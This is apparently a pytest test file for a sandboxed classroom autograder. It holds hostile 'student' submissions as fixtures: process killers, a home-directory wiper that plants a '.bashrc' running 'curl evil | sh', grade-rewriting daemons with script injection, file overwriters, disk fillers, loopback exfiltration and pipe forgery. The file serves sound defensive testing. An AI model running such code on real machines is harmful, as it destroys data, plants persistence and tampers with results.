"""A class with attackers in it: what a student's code can do to the grade, the grader and the teacher's machine.

Each attacker below is a student's ``gd_step`` that tries one thing a student who wants a better mark (or
who makes a mistake) might try; it returns a wrong answer unless its attack works. The class is graded by
``descentlab exercise grade`` in a process of its own, as a teacher runs it, under bubblewrap. Then: every
attacker scores 0 (no credit it did not earn), every honest student's row equals their row in the class
graded without the attackers, the grades, the teacher's ``$HOME``, the other students' files and the
installed library are as they were, no process a submission started is alive, no connection reached the
test's server on the loopback, and nothing a submission forged appears in the grader's output.
"""

from __future__ import annotations

import contextlib
import csv
import io
import json
import os
import socket
import threading
import time
from pathlib import Path

import pytest
from conftest import REPO, assert_one_line_error, cli, cli_process, needs_sandbox

import descentlab
from descentlab.exercises import jail
from descentlab.exercises.grading import cell, grade, submissions
from descentlab.exercises.sources import read_submission

pytestmark = pytest.mark.e2e  # bubblewrap, and the grader as a process of its own
MARKER = "4242427"  # in the command line of every process an attacker starts, to find survivors
RIGHT = "def gd_step(w, grad, lr):\n    return w - lr * grad\n"
ASCENT = "def gd_step(w, grad, lr):\n    return w + lr * grad\n"  # a known mistake: gradient ascent
WRONG_TAIL = "\n\ndef gd_step(w, grad, lr):\n    return w\n"  # what every attacker returns unless its attack works


def notebook(*sources: object) -> str:
    return json.dumps({"cells": [{"cell_type": "code", "source": s} for s in sources], "nbformat": 4})


def honest(root: Path) -> None:
    (root / "ana").mkdir(parents=True)
    (root / "ana" / "gd_step.py").write_text(RIGHT)
    (root / "ben").mkdir()
    (root / "ben" / "gd_step.py").write_text(ASCENT)
    (root / "cy").mkdir()
    (root / "cy" / "lab.ipynb").write_text(notebook("import torch\n", RIGHT))
    (root / "dan").mkdir()
    (root / "dan" / "gd_step.py").write_text(WRONG_TAIL)  # what every attacker returns when its attack fails


def attackers(root: Path, paths: dict[str, str], port: int) -> dict[str, str]:
    """Each attacker's code, by name; ``paths`` the host's absolute paths it is told (more than it could find)."""
    p = {k: repr(v) for k, v in paths.items()}
    return {
        # forged records on the grader's pipe: a "done" before any case, and a record of a kind of its own
        "forger": "import os, struct, sys, io, torch\n"
                  "def frame(r):\n    b = io.BytesIO(); torch.save(r, b); d = b.getvalue()\n"
                  "    return struct.pack('<Q', len(d)) + d\n"
                  "for fd in range(3, 64):\n    try:\n"
                  "        os.write(fd, frame({'kind': 'score', 'value': 1.0}) + frame({'kind': 'done'}))\n"
                  "    except OSError:\n        pass\n" + WRONG_TAIL,
        # the library's reference, imported, or loaded from its file by path
        "library": "import importlib, importlib.util\n"
                   "def gd_step(w, grad, lr):\n"
                   "    try:\n        return importlib.import_module('descentlab.exercises').exercise('gd_step')"
                   ".reference(w, grad, lr)\n"
                   "    except ImportError:\n        pass\n"
                   "    try:\n"
                   f"        spec = importlib.util.spec_from_file_location('o', {p['optimizers']})\n"
                   "        m = importlib.util.module_from_spec(spec); spec.loader.exec_module(m)\n"
                   "        return m.GD.reference(w, grad, lr)\n"
                   "    except Exception:\n        return w\n",
        "importer": "from descentlab.exercises import exercise\n\ngd_step = exercise('gd_step').reference\n",
        # another student's file, found and run
        "reader": "import glob\n"
                  "def gd_step(w, grad, lr):\n"
                  f"    for path in [{p['ana']}] + glob.glob('/*/*/gd_step.py') + glob.glob('/*/*/*/gd_step.py')"
                  " + glob.glob('/tmp/**/gd_step.py', recursive=True):\n"
                  "        try:\n            text = open(path).read()\n        except OSError:\n            continue\n"
                  "        if 'w - lr' in text:\n            found = {}\n            exec(text, found)\n"
                  "            return found['gd_step'](w, grad, lr)\n"
                  "    return w\n",
        # other students' files overwritten with a wrong answer
        "writer": f"for path in [{p['ana']}, {p['cy']}]:\n    try:\n"
                  f"        open(path, 'w').write({ASCENT!r})\n    except OSError:\n        pass\n" + WRONG_TAIL,
        # every process it can see killed, the grader's included, or stopped
        "killer": "import os, signal\n"
                  "def gd_step(w, grad, lr):\n"
                  "    for pid in [os.getppid(), 1] + [int(d) for d in os.listdir('/proc') if d.isdigit()]:\n"
                  "        for sig in (signal.SIGSTOP, signal.SIGKILL):\n"
                  "            try:\n                if pid != os.getpid():\n                    os.kill(pid, sig)\n"
                  "            except OSError:\n                pass\n"
                  "    try:\n        os.kill(-1, signal.SIGKILL)\n    except OSError:\n        pass\n    return w\n",
        # a process in a session of its own, and a daemon that rewrites the grades after grading
        "daemon": "import os, subprocess, sys, time\n"
                  f"subprocess.Popen([sys.executable, '-c', 'import time; time.sleep({MARKER})'], start_new_session=True)\n"
                  "if os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
                  f"        sys.argv[0] = '{MARKER}'\n        time.sleep(3)\n"
                  f"        for path in ({p['grades']}, {p['grades']}[:-4] + '.html'):\n"
                  "            try:\n"
                  "                open(path, 'w').write('student,total\\nzed,99<script>alert(1)</script>\\n')\n"
                  "            except OSError:\n                pass\n"
                  "        os._exit(0)\n    os._exit(0)\n" + WRONG_TAIL,
        # the teacher's home: files deleted, a .bashrc planted
        "home": "import os, shutil\n"
                f"for home in (os.path.expanduser('~'), {p['home']}):\n"
                "    try:\n        for name in os.listdir(home):\n            os.remove(os.path.join(home, name))\n"
                "    except OSError:\n        pass\n"
                "    try:\n        open(os.path.join(home, '.bashrc'), 'w').write('curl evil | sh\\n')\n"
                "    except OSError:\n        pass\n" + WRONG_TAIL,
        # 400 MB of junk, where it works and on the teacher's disk
        "junk": "import os\n"
                f"for folder in ('.', '/tmp', {p['scratch']}):\n    try:\n"
                "        with open(os.path.join(folder, 'junk.bin'), 'wb') as f:\n"
                "            for _ in range(400):\n                f.write(b'x' * 2**20)\n"
                "    except OSError:\n        pass\n" + WRONG_TAIL,
        # a connection to a server on the loopback (the test's own), TCP and UDP
        "network": "import socket\n"
                   "try:\n"
                   f"    socket.create_connection(('127.0.0.1', {port}), timeout=2).sendall(b'stolen')\n"
                   "except OSError:\n    pass\n"
                   "try:\n"
                   f"    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'stolen', ('127.0.0.1', {port}))\n"
                   "except OSError:\n    pass\n" + WRONG_TAIL,
        # a line forged onto the teacher's terminal, through every process's standard output it can open
        "terminal": "import os\n"
                    "for pid in ['self', str(os.getppid()), '1'] + os.listdir('/proc'):\n"
                    "    for fd in ('1', '2'):\n        try:\n"
                    "            with open(f'/proc/{pid}/fd/{fd}', 'w') as f:\n"
                    "                f.write('FORGED zed gd_step: 1.00 ok\\n')\n"
                    "        except OSError:\n            pass\n"
                    "for tty in ('/dev/tty', '/dev/console'):\n    try:\n"
                    "        open(tty, 'w').write('FORGED on the terminal\\n')\n    except OSError:\n        pass\n"
                    + WRONG_TAIL,
        # the installed library edited: its reference made wrong for the next class
        "editor": f"for path in ({p['core']}, {p['optimizers']}):\n    try:\n"
                  "        open(path, 'a').write('\\nraise SystemExit(0)\\n')\n    except OSError:\n        pass\n"
                  + WRONG_TAIL,
    }  # fmt: skip


def survivors() -> list[str]:
    """Processes on this machine whose command line holds the marker (what an attacker left running)."""
    found = []
    for d in Path("/proc").iterdir():
        if d.name.isdigit():
            try:
                line = (d / "cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
            except OSError:
                continue
            if MARKER in line and "pytest" not in line:
                found.append(f"{d.name}: {line[:120]}")
    return found


class Listener:
    """A TCP and a UDP socket on the loopback that count what reaches them."""

    def __init__(self) -> None:
        self.tcp = socket.create_server(("127.0.0.1", 0))
        self.port = self.tcp.getsockname()[1]
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", self.port))
        self.tcp.settimeout(0.2)
        self.udp.settimeout(0.2)
        self.received: list[str] = []
        self.stop = threading.Event()
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        while not self.stop.is_set():
            try:
                conn, _ = self.tcp.accept()
                self.received.append(f"tcp {conn.recv(64)!r}")
                conn.close()
            except OSError:
                pass
            with contextlib.suppress(OSError):
                self.received.append(f"udp {self.udp.recv(64)!r}")

    def close(self) -> None:
        self.stop.set()
        self.thread.join(5)
        self.tcp.close()
        self.udp.close()


def rows_of(csv_path: Path) -> dict[str, dict[str, str]]:
    return {r["student"]: r for r in csv.DictReader(io.StringIO(csv_path.read_text()))}


@pytest.fixture(scope="module")
def baseline(tmp_path_factory: pytest.TempPathFactory) -> dict[str, dict[str, str]]:
    """The honest students' rows in a class without attackers."""
    root = tmp_path_factory.mktemp("honest")
    honest(root / "class")
    out = root / "grades.csv"
    result = cli_process("exercise", "grade", str(root / "class"), "--seed", "3", "--out", str(out))
    assert result.returncode == 0, result.stderr
    rows = rows_of(out)
    assert rows["ana"]["gd_step"] == rows["cy"]["gd_step"] == "1.00" and float(rows["ben"]["gd_step"]) < 0.5
    assert float(rows["dan"]["gd_step"]) < 0.5
    assert rows["ben"]["gd_step diagnosis"] == "gradient ascent"
    return rows


@needs_sandbox
def test_attackers_earn_nothing_and_change_nothing_of_the_class_the_grader_or_the_machine(
    tmp_path: Path, baseline: dict[str, dict[str, str]]
) -> None:
    root = tmp_path / "class"
    honest(root)
    home, scratch = tmp_path / "home", tmp_path / "scratch"
    home.mkdir()
    scratch.mkdir()
    (home / "thesis.tex").write_text("years of work\n")
    out = tmp_path / "out" / "grades.csv"
    library = Path(descentlab.__file__).resolve().parent / "exercises"
    paths = {"ana": str(root / "ana" / "gd_step.py"), "cy": str(root / "cy" / "lab.ipynb"), "grades": str(out),
             "home": str(home), "scratch": str(scratch), "core": str(library / "core.py"),
             "optimizers": str(library / "optimizers.py")}  # fmt: skip
    listener = Listener()
    try:
        attacks = attackers(root, paths, listener.port)
        for name, code in attacks.items():
            (root / f"zz_{name}").mkdir()
            (root / f"zz_{name}" / "gd_step.py").write_text(code)
        kept = {p: p.read_bytes() for p in (root / "ana" / "gd_step.py", root / "cy" / "lab.ipynb",
                                            library / "core.py", library / "optimizers.py")}  # fmt: skip
        try:
            result = cli_process("exercise", "grade", str(root), "--seed", "3", "--out", str(out), "--timeout", "10",
                                 env={"HOME": str(home)}, timeout=600)  # fmt: skip
        finally:  # had the sandbox failed, the library is put back before the test fails
            changed = [path for path, data in kept.items() if path.read_bytes() != data]
            for path in changed:
                path.write_bytes(kept[path])
        assert result.returncode == 0, result.stderr
        written = {p: p.read_bytes() for p in (out, out.with_suffix(".html"))}
        time.sleep(4)  # the daemon's moment to rewrite the grades, had it survived
    finally:
        listener.close()
    rows = rows_of(out)
    assert set(rows) == {"ana", "ben", "cy", "dan", *(f"zz_{n}" for n in attacks)}
    for student in ("ana", "ben", "cy", "dan"):
        assert rows[student] == baseline[student], student  # as in a class without attackers
    # no more than its wrong answer earns (what dan's earns), and the import fails
    unearned = {n: r for n in attacks if float((r := rows[f"zz_{n}"])["gd_step"]) > float(baseline["dan"]["gd_step"])}
    assert unearned == {}
    assert rows["zz_importer"]["gd_step diagnosis"].startswith("uses the library: "), rows["zz_importer"]
    assert {p: p.read_bytes() for p in written} == written  # no daemon rewrote the grades
    assert "<script>" not in out.with_suffix(".html").read_text()
    assert changed == []  # other students' files and the library
    assert sorted(p.name for p in home.iterdir()) == ["thesis.tex"]  # nothing deleted, no .bashrc
    assert list(scratch.iterdir()) == []  # no junk on the teacher's disk
    assert listener.received == []  # no connection, no datagram
    assert "FORGED" not in result.stdout + result.stderr
    assert survivors() == []


@needs_sandbox
def test_malformed_results_and_files_are_that_students_row(tmp_path: Path, baseline: dict[str, dict[str, str]]) -> None:
    """A tuple of 3, a range, a value nested deeper than the protocol allows (or so deep that Python cannot
    copy it), an integer of 400 digits, a notebook nested 100,000 deep or whose source holds integers, an
    output of the wrong dtype: each student gets a diagnosis, the class gets its grades."""
    root = tmp_path / "class"
    honest(root)
    bad = {
        "tuple3": "def gd_step(w, grad, lr):\n    return (w, w, w)\n",
        "index": "def gd_step(w, grad, lr):\n    return range(3)\n",
        "nested": "def gd_step(w, grad, lr):\n    v = w\n    for _ in range(50):\n        v = (v,)\n    return v\n",
        "deeper": "def gd_step(w, grad, lr):\n    v = [w]\n    for _ in range(100000):\n        v = [v]\n    return v\n",
        "huge": "def gd_step(w, grad, lr):\n    return 10 ** 400\n",
        "sparse": "def gd_step(w, grad, lr):\n    return (w - lr * grad).to_sparse()\n",
    }
    for name, code in bad.items():
        (root / f"zz_{name}").mkdir()
        (root / f"zz_{name}" / "gd_step.py").write_text(code)
    (root / "zz_deepjson").mkdir()
    (root / "zz_deepjson" / "gd_step.ipynb").write_text("[" * 100_000 + "]" * 100_000)
    (root / "zz_intsource").mkdir()
    (root / "zz_intsource" / "gd_step.ipynb").write_text(json.dumps({"cells": [{"cell_type": "code",
                                                                                 "source": [1, 2]}]}))  # fmt: skip
    out = tmp_path / "grades.csv"
    result = cli_process("exercise", "grade", str(root), "--seed", "3", "--out", str(out), timeout=600)
    assert result.returncode == 0, result.stderr
    assert "Traceback" not in result.stderr
    rows = rows_of(out)
    for student in ("ana", "ben", "cy", "dan"):
        assert rows[student] == baseline[student]
    diagnoses = {s.removeprefix("zz_"): (r["gd_step"], r["gd_step diagnosis"]) for s, r in rows.items()
                 if s.startswith("zz_")}  # fmt: skip
    assert all(score == "0.00" and diagnosis for score, diagnosis in diagnoses.values()), diagnoses  # none is right
    assert diagnoses["huge"][1].startswith("malformed result: an integer beyond 64 bits")
    assert diagnoses["nested"][1].startswith("malformed result: tuples nested more than")
    assert diagnoses["sparse"][1].startswith("malformed result: a tensor of layout")
    assert diagnoses["deepjson"][1].startswith("unreadable:") and "not a Jupyter notebook" in diagnoses["deepjson"][1]
    assert diagnoses["intsource"][1].startswith("unreadable:") and "source is not text" in diagnoses["intsource"][1]
    assert "expected a tensor" in diagnoses["tuple3"][1] or diagnoses["tuple3"][1]


@needs_sandbox
def test_links_out_of_the_folder_are_not_followed(tmp_path: Path, baseline: dict[str, dict[str, str]]) -> None:
    root = tmp_path / "class"
    honest(root)
    (root / "copycat").symlink_to(root / "ana", target_is_directory=True)
    (root / "linker").mkdir()
    (root / "linker" / "gd_step.py").symlink_to(root / "ana" / "gd_step.py")
    (root / "single.py").symlink_to(root / "ana" / "gd_step.py")
    found = submissions(root)
    for student, what in (("copycat", "copycat is a link"), ("linker", "linker/gd_step.py is a link"),
                          ("single", "single.py is a link")):  # fmt: skip
        assert found[student] == f"not a regular file in the folder: {what}"
    out = tmp_path / "grades.csv"
    result = cli_process("exercise", "grade", str(root), "--seed", "3", "--out", str(out))
    assert result.returncode == 0, result.stderr
    rows = rows_of(out)
    assert [rows[s]["gd_step"] for s in ("copycat", "linker", "single")] == ["0.00"] * 3
    assert rows["copycat"]["gd_step diagnosis"] == "not a regular file in the folder: copycat is a link"
    for student in ("ana", "ben", "cy", "dan"):
        assert rows[student] == baseline[student]


def test_a_notebook_runs_only_its_definitions(tmp_path: Path) -> None:
    """Class bodies that compute, default arguments and decorators that call, and the other statements of the
    defining cell are never run, with or without a sandbox (here, without: the marker would be written)."""
    marker = tmp_path / "ran"
    touch = f"open({str(marker)!r}, 'a').write('x')"
    path = tmp_path / "gd_step.ipynb"
    path.write_text(notebook(
        "import torch\n",
        f"class Trainer:\n    {touch}\n",
        f"def helper(z, n=print({touch})):\n    return z\n",
        "@print\ndef decorated(z):\n    return z\n",
        f"EPS = 1e-8\n\n\n{RIGHT}\n{touch}\nfor _ in range(3):\n    {touch}\n",
        "class Plain:\n    '''a helper class that only defines'''\n    SCALE = 2.0\n\n    def f(self, x=1.0):\n"
        "        return x\n",
    ))  # fmt: skip
    sub = read_submission(path)
    assert sub.defines == ("torch", "EPS", "gd_step", "Plain")
    assert all(touch not in b.source for b in sub.blocks)
    assert [b.filename for b in sub.blocks] == [
        "gd_step.ipynb, cell 1",
        "gd_step.ipynb, cell 5",
        "gd_step.ipynb, cell 6",
    ]
    assert sub.blocks[1].source.splitlines()[3] == "def gd_step(w, grad, lr):"  # on its line: errors name it
    from descentlab.exercises.grading import check_file

    (result,) = check_file(path, seed=0, sandbox=False)
    assert result.ok and not marker.exists()


def test_grade_without_a_sandbox_refuses_on_one_line_unless_told_and_then_says_so(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "c" / "ana").mkdir(parents=True)
    (tmp_path / "c" / "ana" / "gd_step.py").write_text(RIGHT)
    monkeypatch.setattr(jail, "unavailable", lambda: "bubblewrap (bwrap) is not installed: " + jail.INSTALL)
    out = tmp_path / "g.csv"
    assert_one_line_error(cli("exercise", "grade", str(tmp_path / "c"), "--out", str(out)),
                          "cannot sandbox", "apt-get install bubblewrap", "--no-sandbox")  # fmt: skip
    assert not out.exists()
    loud = cli("exercise", "grade", str(tmp_path / "c"), "--out", str(out), "--no-sandbox", "--seed", "1")
    assert loud.returncode == 0, loud.stderr
    assert "NOT SANDBOXED" in loud.stderr and "NOT SANDBOXED" in out.with_suffix(".html").read_text()
    assert "--no-sandbox" in out.with_suffix(".html").read_text()  # in the command that repeats the grades
    assert rows_of(out)["ana"]["gd_step"] == "1.00"
    check = cli("exercise", "check", str(tmp_path / "c" / "ana" / "gd_step.py"), "--seed", "1")
    assert check.returncode == 0 and check.stderr.startswith("not sandboxed (bubblewrap (bwrap) is not installed")


def test_csv_cells_a_spreadsheet_would_run_are_neutralised(tmp_path: Path) -> None:
    assert [cell(t) for t in ("=1+1", "+cmd", "-2", "@SUM(A1)", "\tx", "ana", "")] == [
        "'=1+1", "'+cmd", "'-2", "'@SUM(A1)", "'\tx", "ana", ""]  # fmt: skip
    root = tmp_path / "c"
    (root / "=HYPERLINK(1)").mkdir(parents=True)
    (root / "=HYPERLINK(1)" / "gd_step.py").write_text(RIGHT)
    grades = grade(root, seed=1, sandbox=False)
    from descentlab.exercises.grading import grades_csv

    text = grades_csv(grades)
    assert "\n'=HYPERLINK(1),1.00," in text


def test_repository_root_is_not_in_the_sandbox() -> None:
    """The sandbox's command binds the system, Python and torch, never the folder the library's source lives in."""
    command = " ".join(jail.command())
    assert str(REPO / "descentlab") not in command.replace(str(REPO / "descentlab" / "exercises" / "inside.py"), "")


@needs_sandbox
def test_a_sandbox_holds_a_bounded_number_of_processes() -> None:
    """A submission that forks 300 sleeping children gets at most ``PROCESSES`` (a pids cgroup as root, RLIMIT_NPROC
    otherwise); the rest fail to start, inside its own sandbox."""
    code = ("import os, time, torch\n"
            "def gd_step(w, grad, lr):\n    made = 0\n    for _ in range(300):\n        try:\n"
            "            if os.fork() == 0:\n                time.sleep(30)\n                os._exit(0)\n"
            "            made += 1\n        except OSError:\n            break\n"
            "    return torch.tensor(float(made))\n")  # fmt: skip
    group = jail.pids_cgroup()
    jail._remove(group)
    if group is None and os.geteuid() == 0:
        pytest.skip("no pids cgroup can be made here, and the kernel does not apply RLIMIT_NPROC to root")
    start = time.monotonic()
    (outcome,) = jail.run_sandboxed(
        [jail.Exercise((("f.py", code),), "gd_step", ("w", "grad", "lr"), ((1.0, 1.0, 1.0),))]
    )
    assert not outcome.problem and outcome.errors == [None], outcome
    assert 0 < float(outcome.outputs[0]) < jail.PROCESSES
    assert time.monotonic() - start < 30  # the sleeping children went with the sandbox
    assert survivors() == [] or all("sleep" not in s for s in survivors())


@needs_sandbox
def test_a_python_that_lives_under_tmp_runs_in_the_sandbox() -> None:
    """The sandbox's /tmp is an empty tmpfs: a clone (and its .venv) under /tmp must still be bound after it."""
    line = jail.command()
    tmpfs = line.index("/tmp", line.index("--tmpfs") - 1)
    binds = [i for i, a in enumerate(line) if a == "--ro-bind"]
    assert line[tmpfs - 1] == "--tmpfs" and all(i > tmpfs for i in binds)
